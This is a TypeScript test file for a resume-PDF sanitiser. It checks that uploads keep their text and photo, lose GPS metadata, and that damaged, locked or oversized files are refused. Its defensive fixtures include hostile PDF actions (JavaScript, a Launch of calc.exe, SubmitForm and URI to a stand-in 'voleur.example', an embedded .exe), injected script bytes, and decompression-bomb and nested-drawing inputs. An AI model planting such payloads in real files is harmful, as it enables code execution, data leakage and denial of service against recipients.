import { readdirSync, readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { putFile } from "contract/candidates/files.ts";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { mutate, seeded } from "../../../tests/support/mutate.ts";
import { pdfOf, readPdf, resumeOf, storedResume, streamOf } from "../../../tests/support/pdf.ts";
import { PROVIDER_KEY, useTestApp } from "../../../tests/support/test-app.ts";
import { encodeResume } from "./encode-resume.ts";

const test = useTestApp();
const RESUMES = "tests/support/data/resumes";
const resume = (name: string) => readFileSync(`${RESUMES}/${name}.pdf`);
const textOf = async (bytes: Uint8Array) => (await readPdf(bytes)).pages.map(({ text }) => text.trim());
const put = (name: string, content: Uint8Array) =>
  test.send(putFile, { name, content: new Uint8Array(content) }, { token: PROVIDER_KEY });
const FLATE = "/Filter /FlateDecode";

const drawing = (contents: string | Buffer, forms: readonly string[] = []) =>
  pdfOf([
    "<</Type /Catalog /Pages 2 0 R>>",
    "<</Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842]>>",
    "<</Type /Page /Parent 2 0 R /Resources <</Font <</F1 5 0 R>> /XObject <</X 6 0 R>>>> /Contents 4 0 R>>",
    streamOf(FLATE, deflateSync(contents, { level: 1 })),
    "<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
    ...forms,
  ]);
const HUGE_PICTURE = drawing("/X Do BT /F1 12 Tf (CV) Tj ET", [
  streamOf("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 7 0 R>>>>", "/X Do"),
  streamOf(
    `/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceGray ${FLATE}`,
    deflateSync(Buffer.alloc(9)),
  ),
]);
const manyTexts = (count: number) => drawing(`BT /F1 12 Tf 40 780 Td ${"(a) Tj ".repeat(count)} ET`);
const DRAWINGS_IN_DRAWINGS = drawing(
  "/X Do",
  Array.from({ length: 20 }, (_, index) =>
    streamOf(
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X ${7 + index} 0 R>>>>`,
      "/X Do ".repeat(20),
    ),
  ),
);

describe("a resume made by a common program", () => {
  it.each([
    ["chromium", { language: "fr" }],
    ["latex", { bookmarks: ["Curriculum vitæ", "Deux"] }],
  ])("a resume made by %s keeps its text, size, language and bookmarks (T-38)", async (name, kept) => {
    const [before, after] = [await readPdf(resume(name)), await readPdf(await storedResume(resume(name)))];
    expect(after).toMatchObject(kept);
    expect(after).toEqual({ ...before, pages: before.pages.map((page) => ({ ...page, annotations: 0 })) });
  });

  it("a stored resume shows the values of the form fields, but as text (T-38)", async () => {
    const bytes = await storedResume(resume("libreoffice-form"));
    const text = (await textOf(bytes)).join("\n");
    expect(text).toContain("Champ rempli é");
    expect(text).toContain("Choix");
    expect(bytes.toString("latin1")).not.toMatch(/\/(AcroForm|Annots|Widget)\b/);
  });

  it("a stored resume keeps the text of free-text annotations (T-38)", async () => {
    const text =
      "<</Type /Annot /Subtype /FreeText /Rect [40 600 400 640] /Contents (Permis B) /DA (/Helv 12 Tf 0 g)>>";
    const [page] = await textOf(await storedResume(resumeOf("Mon CV", { page: `/Annots [${text}]` })));
    expect(page).toMatch(/^Mon CV\s+Permis B$/);
  });

  it("encoding a resume twice gives two identical files, without date or producer (T-38)", async () => {
    const bytes = await storedResume(resume("latex"));
    expect((await storedResume(resume("latex"))).equals(bytes)).toBe(true);
    expect(bytes.toString("latin1")).not.toMatch(/CreationDate|Producer|Creator/);
  });
});

describe("a resume with common defects", () => {
  it("a resume with a common defect is stored with all its text (T-38)", async () => {
    const texts = {
      "bom-before-header": ["TEMOIN BOM"],
      "zero-padding-4k": ["TEMOIN PADDING"],
      "xml-attachment": ["TEMOIN EUROPASS"],
      "no-endstream": ["TEMOIN SANS ENDSTREAM"],
      "cut-endstream-two-pages": ["TEMOIN PAGE UNE COUPEE", "TEMOIN PAGE DEUX"],
      "empty-embeddedfiles": ["TEMOIN NOMS VIDES"],
      "owner-128": ["TEMOIN PLAIN"],
    };
    for (const [name, text] of Object.entries(texts)) {
      const bytes = await storedResume(resume(`reported/${name}`));
      expect(await textOf(bytes), name).toEqual(text);
      expect(bytes.toString("latin1"), name).not.toMatch(/Encrypt|EmbeddedFile|Filespec|<cv\/>/);
    }
  });

  it("a stored resume keeps the fonts of a page that is missing in the page tree", async () => {
    const bytes = resumeOf("Sans parent").toString("latin1").replace("/Parent 2 0 R", "");
    const stored = await storedResume(Buffer.from(bytes, "latin1"));
    expect(stored.toString("latin1")).toContain("/BaseFont/Helvetica");
  });

  it("in a stored resume, a turned or cropped page keeps its visible area", async () => {
    for (const [page, ...size] of [
      ["/Rotate 90", 842, 595],
      ["/CropBox [50 400 500 800]", 450, 400],
    ] as const) {
      const { pages } = await readPdf(await storedResume(resumeOf("CV", { page })));
      expect(pages).toEqual([{ text: "CV", size, annotations: 0 }]);
    }
  });
});

describe("a resume with active content", () => {
  const ACTIONS = [
    "<</S /JavaScript /JS (app.alert\\(1\\))>>",
    "<</S /Launch /F (calc.exe)>>",
    "<</S /GoToR /F (\\\\\\\\voleur\\\\a.pdf) /D [0 /Fit]>>",
    "<</S /SubmitForm /F (https://voleur.example/)>>",
    "<</S /ImportData /F (a.fdf)>>",
    "<</S /Rendition /OP 0>>",
    "<</S /URI /URI (https://voleur.example/)>>",
    "<</S /Named /N /Print>>",
  ];
  const ANNOTATIONS = ["RichMedia", "3D", "Screen", "FileAttachment", "Link", "Movie"];
  const GONE =
    /\/(S|A|AA|JS|JavaScript|Launch|URI|OpenAction|Names|EmbeddedFiles?|EF|Filespec|Annots?|AcroForm|XFA|Metadata)\b/;

  it("a stored resume contains no action of any kind (T-38)", async () => {
    const annotations = ANNOTATIONS.map(
      (kind) => `<</Type /Annot /Subtype /${kind} /Rect [0 0 9 9] /A 6 0 R /AA <</E 6 0 R>>>>`,
    );
    const names = "/Names <</JavaScript <</Names [(a) 6 0 R]>> /EmbeddedFiles <</Names [(a.exe) 7 0 R]>>>>";
    for (const action of ACTIONS) {
      const bytes = await storedResume(
        resumeOf("Mon CV", {
          catalog: `/OpenAction 6 0 R /AA <</WC 6 0 R>> ${names} /Outlines 9 0 R /AcroForm <</Fields [10 0 R]>> /Metadata 8 0 R`,
          page: `/AA <</O 6 0 R>> /Annots [${annotations.join(" ")} 10 0 R] /Metadata 8 0 R /AF [7 0 R]`,
          objects: [
            action,
            "<</Type /Filespec /F (a.exe) /EF <</F 8 0 R>>>>",
            streamOf("/Type /EmbeddedFile", "<script>1</script>"),
            `<</First 11 0 R /Last 11 0 R>>`,
            `<</Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /A 6 0 R>>`,
            `<</Title (Marque) /A 6 0 R /Parent 9 0 R>>`,
          ],
        }),
      );
      const kept = { pages: [{ text: "Mon CV", annotations: 0 }], bookmarks: ["Marque"] };
      expect(await readPdf(bytes), action).toMatchObject(kept);
      expect(bytes.toString("latin1"), action).not.toMatch(GONE);
      expect(bytes.toString("latin1"), action).not.toMatch(/voleur|alert|script|calc/);
    }
  });

  it("a stored resume has no bytes before, after or between its objects (T-38)", async () => {
    const script = "<script>window.attacked = 1</script>";
    const bytes = Buffer.concat([Buffer.from(`<html>${script}`), resumeOf("CV"), Buffer.from(`${script} PK\x05\x06`)]);
    const stored = await storedResume(Buffer.concat([bytes, Buffer.from("\n%%EOF\n")]));
    expect(stored.toString("latin1")).toMatch(/^%PDF-1\.7(?![\s\S]*script)[\s\S]*%%EOF\s*$/);
  });
});

describe("a resume that contains a photo", () => {
  const photo = readFileSync("tests/support/data/files/portrait-position.jpg");
  const picture = `/Type /XObject /Subtype /Image /Width 512 /Height 512 /BitsPerComponent 8 /ColorSpace /DeviceRGB`;

  it("a stored resume keeps the photo without the photo's location (T-38 T-39)", async () => {
    const bytes = await storedResume(
      drawing("BT /F1 12 Tf (CV) Tj ET 200 0 0 200 0 0 cm /X Do", [
        streamOf(`${picture} /Filter /DCTDecode /Metadata 7 0 R`, photo),
        streamOf("/Type /Metadata /Subtype /XML", "<x:xmpmeta>48.1173, -1.6778</x:xmpmeta>"),
      ]),
    );
    expect(bytes.toString("latin1")).not.toMatch(/Exif|48\.1173/);
    const [start, end] = [bytes.indexOf(photo.subarray(0, 6)), bytes.indexOf(photo.subarray(-1000))];
    const kept = await sharp(bytes.subarray(start, end + 1000))
      .raw()
      .toBuffer();
    expect(kept.equals(await sharp(photo).raw().toBuffer())).toBe(true);
  });
});

describe("a resume that cannot be stored", () => {
  const LOCKED = "PDF chiffré ou protégé par un mot de passe : enregistrez-le sans protection.";
  const xfa = resumeOf("Please wait", {
    catalog: "/NeedsRendering true /AcroForm <</Fields [] /XFA 6 0 R>>",
    objects: [streamOf("", "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")],
  });
  const HIDDEN = "PDF avec un calque masqué : imprimez-le en PDF et envoyez ce fichier.";
  const withLayer = (state: string) =>
    resumeOf("CV", {
      catalog: `/OCProperties <</OCGs [6 0 R] /D <<${state}>>>>`,
      objects: ["<</Type /OCG /Name (L)>>"],
    });

  it("the server stores a resume whose layers are all visible (T-38)", async () => {
    expect(await textOf(await storedResume(withLayer("/ON [6 0 R] /OFF []")))).toEqual(["CV"]);
  });

  it.each([
    ["with a hidden layer", withLayer("/OFF [6 0 R]"), HIDDEN],
    ["with layers hidden at first", withLayer("/BaseState /OFF"), HIDDEN],
    ["with a password", resume("locked"), LOCKED],
    ["cut short", resume("latex").subarray(0, 20_000), "PDF incomplet : la marque de fin manque."],
    ["without pages", pdfOf(["<</Type /Catalog>>"]), "PDF illisible : sa structure est abîmée."],
    ["of rubbish", Buffer.from("%PDF-1.7\nrien\n%%EOF\n"), "PDF illisible : sa structure est abîmée."],
    ["of blank pages", drawing(" "), "PDF sans contenu : aucune de ses pages ne montre quelque chose."],
    ["of a dynamic form", xfa, "PDF qui contient un formulaire XFA : imprimez-le en PDF et envoyez ce fichier."],
    ["of 300 MB of blanks", drawing(Buffer.alloc(300_000_000, 32)), "PDF trop complexe pour être vérifié."],
    ["of a picture of 900 million pixels", HUGE_PICTURE, "PDF trop complexe pour être vérifié."],
  ])("the server rejects a resume %s and gives the reason (T-38 T-39)", async (_name, bytes, error) => {
    const before = process.memoryUsage().rss;
    const response = await put("cv.pdf", bytes);
    expect(response.json()).toEqual({ code: "fileRefused", error });
    expect((process.memoryUsage().rss - before) / 1_000_000).toBeLessThan(256);
  });
});

describe("the thread that reads resumes", () => {
  it("randomly damaged resumes do not stop the thread that reads resumes (T-38)", async () => {
    const random = seeded(20_261_127);
    const seeds = ["", "reported/"].flatMap((folder) =>
      readdirSync(`${RESUMES}/${folder}`)
        .filter((name) => name.endsWith(".pdf"))
        .map((name) => readFileSync(`${RESUMES}/${folder}${name}`)),
    );
    const accepted: Uint8Array[] = [];
    for (let turn = 0; turn < 10; turn += 1) {
      const remade = await encodeResume(mutate(seeds, random));
      if ("bytes" in remade) accepted.push(remade.bytes);
    }
    expect(accepted.length).toBeGreaterThan(2);
    expect(accepted.length).toBeLessThan(9);
    for (const bytes of accepted) expect(await textOf(await storedResume(bytes))).toEqual(await textOf(bytes));
  });

  it("the server responds while the thread for PDF files reads resumes with many text objects (F-35)", async () => {
    const heavy = manyTexts(15_000);
    const sent = [1, 2].map((number) => put(`cv-${number}.pdf`, heavy));
    const state = { busy: true };
    const all = Promise.all(sent).finally(() => Object.assign(state, { busy: false }));
    let responses = 0;
    for (; state.busy; responses += 1) {
      expect((await test.app.inject("/livez")).statusCode).toBe(200);
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
    expect((await all).map(({ statusCode }) => statusCode)).toEqual(sent.map(() => 200));
    expect(responses).toBeGreaterThan(5 * sent.length);
  });

  it("after a resume has exceeded the time limit, the thread reads the next resume (F-35)", async () => {
    expect(await encodeResume(DRAWINGS_IN_DRAWINGS, { longestMs: 100 })).toEqual({ issue: "pdfTooComplex" });
    expect(await textOf(await storedResume(resumeOf("CV")))).toEqual(["CV"]);
  });
});
